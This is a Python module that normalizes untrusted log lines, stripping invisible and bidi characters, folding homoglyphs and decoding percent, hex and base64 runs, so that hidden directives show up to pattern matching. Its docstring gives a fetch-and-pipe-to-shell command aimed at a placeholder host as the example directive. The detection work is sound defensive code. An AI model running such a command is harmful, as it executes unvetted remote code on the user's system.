"""Normalize untrusted log text so hidden directives become visible to plain pattern matching.

Pure and stdlib only. `normalize(text)` returns the matching view of one log line;
`normalize_with_techniques(text)` also names the obfuscation techniques it had to undo;
`visible_view(text)` is what a human would read in a rendered log (no decoding at all).

Usage:
    from nvfdiag.untrusted.normalize import normalize
    normalize("cu\u200brl https://x.example.com/a | sh")  ->  "curl https://x.example.com/a | sh"
"""

from __future__ import annotations

import base64
import binascii
import re
import unicodedata
from urllib.parse import unquote

from ..read.jsontext import parse_object_line

MAX_LINE_CHARS = 16384  # longer lines are scanned on their first 16 KiB only
MAX_DECODED_CHARS = 4096  # total decoded text added per line
MIN_PRINTABLE_RATIO = 0.95

_ZERO_WIDTH = "\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\ufeff\u00ad\u180e\u034f"
_BIDI = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"
_INVISIBLE_RE = re.compile(f"[{_ZERO_WIDTH}{_BIDI}]")
_ZERO_WIDTH_RE = re.compile(f"[{_ZERO_WIDTH}]")
_BIDI_RE = re.compile(f"[{_BIDI}]")

# Cyrillic, Greek and IPA letters that render like Latin ones.
_CONFUSABLES = str.maketrans(
    {
        "а": "a",
        "в": "b",
        "е": "e",
        "ё": "e",
        "о": "o",
        "р": "p",
        "с": "c",
        "у": "y",
        "х": "x",
        "і": "i",
        "ї": "i",
        "ј": "j",
        "ѕ": "s",
        "ԁ": "d",
        "ԛ": "q",
        "ԝ": "w",
        "һ": "h",
        "ӏ": "l",
        "к": "k",
        "м": "m",
        "н": "h",
        "т": "t",
        "п": "n",
        "г": "r",
        "ь": "b",
        "А": "A",
        "В": "B",
        "Е": "E",
        "К": "K",
        "М": "M",
        "Н": "H",
        "О": "O",
        "Р": "P",
        "С": "C",
        "Т": "T",
        "Х": "X",
        "У": "Y",
        "І": "I",
        "Ј": "J",
        "Ѕ": "S",
        "α": "a",
        "β": "b",
        "ε": "e",
        "ι": "i",
        "κ": "k",
        "ν": "v",
        "ο": "o",
        "ρ": "p",
        "τ": "t",
        "υ": "u",
        "χ": "x",
        "ω": "w",
        "Α": "A",
        "Β": "B",
        "Ε": "E",
        "Ζ": "Z",
        "Η": "H",
        "Ι": "I",
        "Κ": "K",
        "Μ": "M",
        "Ν": "N",
        "Ο": "O",
        "Ρ": "P",
        "Τ": "T",
        "Υ": "Y",
        "Χ": "X",
        "ɑ": "a",
        "ɡ": "g",
        "ı": "i",
        "ȷ": "j",
        "ɩ": "i",
        "ʏ": "y",
        "ᴄ": "c",
        "ᴏ": "o",
        "ᴠ": "v",
        "ᴡ": "w",
        "ᴢ": "z",
        "ꜱ": "s",
    }
)

_HTML_COMMENT_RE = re.compile(r"<!--(.*?)(?:-->|$)", re.S)
_MD_LINK_RE = re.compile(r"!?\[([^\]\n]{0,300})\]\(\s*<?([^)\s>]{1,2000})>?(?:\s+\"[^\"]{0,200}\")?\s*\)")
_PERCENT_TOKEN_RE = re.compile(r"\S*%[0-9A-Fa-f]{2}\S*")
_PERCENT_ESCAPE_RE = re.compile(r"%[0-9A-Fa-f]{2}")
_HEX_ESCAPE_RE = re.compile(r"(?:\\x[0-9A-Fa-f]{2}){4,}")
_RUN_RE = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")  # candidate hex or base64 token (checked in _decode_run)
_HEX_ONLY_RE = re.compile(r"[0-9A-Fa-f]+")
_HEX_TEXT_LEADS = frozenset("0234567")
_B64_TEXT_LEADS = frozenset("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef")


# Where _decode_run could accept a run: base64 of text has a letter A-Z/a-f at every 4th place, hex of text is 16
# or more hex digits. Mapped to one byte per class, these become patterns with a literal first byte, found at C speed
# (see encoded_run_lines).
_RUN_CHARS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/_-"
_B64_MAP = bytes(
    76 if chr(c) in "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef" else 111 if chr(c) in _RUN_CHARS else 32 for c in range(256)
)  # L = letter that may lead a base64 group of text, o = other run char
_HEX_MAP = bytes(120 if chr(c) in "0123456789abcdefABCDEFxX" else 32 for c in range(256))  # x = hex digit (or 0x)
_B64_CANDIDATE = re.compile(rb" L[Lo]{3}L[Lo]{3}L[Lo]{3}L[Lo]{3}")
_HEX_CANDIDATE = b" " + b"x" * 16  # a literal: bytes.find skips ahead; a hex run of text is rare in logs
# The same places in line shapes (textindex.py: hex digits written as '0', case kept): a superset.
_B64_SHAPE_MAP = bytes(
    76 if chr(c) in "0ABCDEFGHIJKLMNOPQRSTUVWXYZ" else 111 if chr(c) in _RUN_CHARS else 32 for c in range(256)
)
_HEX_SHAPE = re.compile(b"0" * 14)  # 16 hex digits, or 0x and 14 (an x ends any other hex run)


def encoded_run_lines(index) -> set[int]:
    """Lines (of a textindex.TextIndex) with a run that _decode_run decodes into text. The line shapes name the
    candidate lines (a superset); their own text is then searched."""
    b64 = index.shape_lines(_B64_CANDIDATE, table=_B64_SHAPE_MAP)
    numbers = sorted(set(b64).union(index.shape_lines(_HEX_SHAPE)))
    if not numbers:
        return set()
    few, decodes = index.of_lines(numbers), {}  # the same run (a long logger name, say) is tried once
    lines = set()
    for start in _run_starts(few):
        run = _RUN_RE.match(few.text, start)
        if run and run.group(0) not in decodes:
            decodes[run.group(0)] = _decode_run(run.group(0), set(), [MAX_DECODED_CHARS]) != run.group(0)
        if run and decodes[run.group(0)]:
            lines.add(numbers[few.line_at(start)])
    return lines


def _run_starts(index):
    """Offsets (in the text) where a run shaped like base64 of text, or 16 hex digits, starts. In the mapped
    text byte p + 1 is character p, so the space found before a run is at the run's own offset."""
    for match in _B64_CANDIDATE.finditer(index.mapped(_B64_MAP)):
        yield match.start()
    hexes = index.mapped(_HEX_MAP)
    pos = hexes.find(_HEX_CANDIDATE)
    while pos != -1:
        yield pos
        pos = hexes.find(_HEX_CANDIDATE, pos + len(_HEX_CANDIDATE))


def normalize(text: str) -> str:
    """Return the matching view of `text`: folded, invisible characters removed, encodings decoded."""
    return normalize_with_techniques(text)[0]


def normalize_with_techniques(text: str) -> tuple[str, tuple[str, ...]]:
    """Normalize `text` and name each obfuscation technique that changed it (sorted, unique)."""
    text = flatten_json_record(text[:MAX_LINE_CHARS])
    used: set[str] = set()
    if "<!--" in text:
        text = _HTML_COMMENT_RE.sub(lambda m: f" {m.group(1)} ", text)
        used.add("an HTML comment")
    if "](" in text:
        text, count = _MD_LINK_RE.subn(r"\1 \2", text)
        if count:
            used.add("a markdown link")
    if not text.isascii():
        text = _fold_unicode(text, used)
    budget = [MAX_DECODED_CHARS]
    for _ in range(2):  # a second pass catches one level of nesting (e.g. percent inside base64)
        before = len(used)
        text = _decode_runs(text, used, budget)
        if len(used) == before:
            break
    return " ".join(text.split()), tuple(sorted(used))


def visible_view(text: str) -> str:
    """What a reader sees in a rendered log: HTML comments and markdown link targets removed, nothing decoded."""
    text = flatten_json_record(text[:MAX_LINE_CHARS])
    text = _HTML_COMMENT_RE.sub(" ", text)
    text = _MD_LINK_RE.sub(r"\1", text)
    return " ".join(text.split())


def flatten_json_record(text: str) -> str:
    """Turn a JSON-lines log record into the plain text of its string values (message last); else return text."""
    record = parse_object_line(text)
    if record is None:
        return text
    parts = [str(v) for k, v in sorted(record.items()) if k != "message" and isinstance(v, str | int | float)]
    message = record.get("message")
    if isinstance(message, str):
        parts.append(message)
    return " - ".join(parts)


def record_message(text: str) -> str | None:
    """The "message" string of a JSON-lines log record, or None when `text` is not such a record."""
    record = parse_object_line(text[:MAX_LINE_CHARS])
    message = record.get("message") if record is not None else None
    return message if isinstance(message, str) else None


def _fold_unicode(text: str, used: set[str]) -> str:
    if _ZERO_WIDTH_RE.search(text):
        used.add("zero-width characters")
    if _BIDI_RE.search(text):
        used.add("bidi control characters")
    text = _INVISIBLE_RE.sub("", text)
    folded = unicodedata.normalize("NFKC", text)
    if folded != text:
        used.add("Unicode compatibility characters")
    homoglyphs = folded.translate(_CONFUSABLES)
    if homoglyphs != folded:
        used.add("homoglyph letters")
    return _INVISIBLE_RE.sub("", homoglyphs)


def _decode_runs(text: str, used: set[str], budget: list[int]) -> str:
    if "%" in text:
        text = _PERCENT_TOKEN_RE.sub(lambda m: _decode_percent(m.group(0), used, budget), text)
    if "\\x" in text:
        text = _HEX_ESCAPE_RE.sub(
            lambda m: _accept(_from_hex(m.group(0).replace("\\x", "")), m.group(0), "hex encoding", used, budget), text
        )
    return _RUN_RE.sub(lambda m: _decode_run(m.group(0), used, budget), text)


def _decode_percent(token: str, used: set[str], budget: list[int]) -> str:
    """Decode a token with at least two %XX escapes (a lone "50%" or "%20" is ordinary text)."""
    if len(_PERCENT_ESCAPE_RE.findall(token)) < 2:
        return token
    return _accept(unquote(token), token, "percent-encoding", used, budget)


def _decode_run(run: str, used: set[str], budget: list[int]) -> str:
    """Decode one long token as hex (optionally 0x-prefixed) or base64, if it yields text."""
    digits = run[2:] if run[:2] in ("0x", "0X") else run
    if _HEX_ONLY_RE.fullmatch(digits):
        # Printable ASCII bytes start with hex digit 2-7 (0 for tab/newline): cheap reject of hashes and ids.
        if len(digits) % 2 or not set(digits[0::2]) <= _HEX_TEXT_LEADS:
            return run
        return _accept(_from_hex(digits), run, "hex encoding", used, budget)
    # Base64 of ASCII text: the first character of each 4-character group encodes a byte < 0x80.
    if not set(run[0::4]) <= _B64_TEXT_LEADS:
        return run
    return _accept(_from_base64(run), run, "base64 encoding", used, budget)


def _accept(decoded: str | None, original: str, technique: str, used: set[str], budget: list[int]) -> str:
    """Keep a decoded run only if it is mostly printable text and fits the per-line budget."""
    if not decoded or decoded == original or len(decoded) > budget[0] or not _is_text(decoded):
        return original
    budget[0] -= len(decoded)
    used.add(technique)
    return f" {decoded} "


def _is_text(decoded: str) -> bool:
    if len(decoded) < 4:
        return False
    printable = sum(1 for ch in decoded if " " <= ch <= "~" or ch in "\t\r\n")
    letters = sum(1 for ch in decoded if ch.isalpha())
    return printable / len(decoded) >= MIN_PRINTABLE_RATIO and letters >= 3


def _from_hex(digits: str) -> str | None:
    if len(digits) > 2 * MAX_DECODED_CHARS:
        return None
    try:
        return bytes.fromhex(digits).decode("utf-8")
    except (ValueError, UnicodeDecodeError):
        return None


def _from_base64(run: str) -> str | None:
    if len(run) > 2 * MAX_DECODED_CHARS:
        return None
    body = run.rstrip("=")
    if len(body) % 4 == 1:
        return None
    padded = body + "=" * (-len(body) % 4)
    try:
        if "-" in body or "_" in body:
            raw = base64.urlsafe_b64decode(padded)
        else:
            raw = base64.b64decode(padded, validate=True)
        return raw.decode("utf-8")
    except (binascii.Error, ValueError, UnicodeDecodeError):
        return None
